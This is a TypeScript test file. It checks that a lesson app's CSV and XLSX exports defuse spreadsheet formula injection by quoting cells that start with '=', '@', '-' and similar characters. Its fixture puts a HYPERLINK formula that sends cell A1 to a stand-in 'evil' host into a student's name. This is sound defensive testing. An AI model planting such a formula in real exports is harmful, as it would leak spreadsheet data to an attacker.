import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { adminToken, bearer } from "../../../test/accounts-fixtures";
import { createTestApp, type TestApp } from "../../../test/app";
import { givenLesson, givenStudent, givenTeacher, type Person } from "../../../test/lesson-fixtures";

const HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"x")';

/** The rows of a `;` CSV as a spreadsheet reads them (RFC 4180: quoted fields, `""` for a quote). */
const parseCsv = (text: string) => {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let index = 0; index < text.length; index++) {
    const character = text[index];
    if (quoted) {
      if (character === '"' && text[index + 1] === '"') {
        field += '"';
        index++;
      } else if (character === '"') quoted = false;
      else field += character;
    } else if (character === '"') quoted = true;
    else if (character === ";") {
      row.push(field);
      field = "";
    } else if (character === "\r" && text[index + 1] === "\n") {
      rows.push([...row, field]);
      row = [];
      field = "";
      index++;
    } else field += character;
  }
  return rows;
};

/** Whether a spreadsheet would evaluate the cell: a text starting a formula. */
const startsFormula = (cell: unknown) => typeof cell === "string" && /^[=+\-@\t\r]/.test(cell);

describe("the lesson exports open with no formula a student or teacher typed", () => {
  let test: TestApp;
  let admin: { authorization: string };
  let student: Person;
  beforeAll(async () => {
    test = await createTestApp();
    admin = bearer(await adminToken(test.app));
    student = await givenStudent(test.app, { firstName: HYPERLINK });
    const teacher = await givenTeacher(test.app, { firstName: "@SUM(A1:A9)" });
    const id = await givenLesson(test.app, student, { date: new Date("2022-06-10T13:00:00Z"), teacher });
    const feedback = await test.app.inject({
      method: "POST",
      url: "/api/student-feedbacks",
      headers: student.auth,
      payload: { lessonId: id, note: 5, information: "-2+3" },
    });
    expect(feedback.statusCode).toBeLessThan(300);
  });
  afterAll(() => test.close());

  const download = async (url: string) => {
    const response = await test.app.inject({ method: "GET", url, headers: admin });
    expect(response.statusCode).toBe(200);
    return response.rawPayload;
  };

  it.each([
    ["the lesson-control CSV", () => `/api/lessons/export?format=csv&studentId=${student.id}`],
    ["the feedbacks CSV", () => "/api/feedbacks/download"],
  ])("%s quotes each cell that would start a formula", async (_name, url) => {
    const rows = parseCsv((await download(url())).subarray(3).toString("utf8"));
    const row = rows.find((cells) => cells[1]?.includes("HYPERLINK"));
    expect(row?.slice(1, 2)).toEqual([`'${HYPERLINK} Souza`]);
    expect(row?.[7]).toBe("'@SUM(A1:A9) Lima");
    expect(row?.[10]).toBe("'-2+3");
    expect(rows.flat().filter(startsFormula)).toEqual([]);
  });

  it("the lesson-control XLSX holds them as quoted text", async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await download(`/api/lessons/export?format=xlsx&studentId=${student.id}`)) as never);
    const sheet = workbook.worksheets[0];
    const row = sheet?.getRow(2);
    expect(row?.getCell(2).value).toBe(`'${HYPERLINK} Souza`);
    expect(row?.getCell(8).value).toBe("'@SUM(A1:A9) Lima");
    expect(row?.getCell(11).value).toBe("'-2+3");
    const cells: unknown[] = [];
    sheet?.eachRow((each) => {
      each.eachCell((cell) => {
        cells.push(cell.value);
        expect(cell.formula).toBeUndefined();
      });
    });
    expect(cells.filter(startsFormula)).toEqual([]);
  });
});
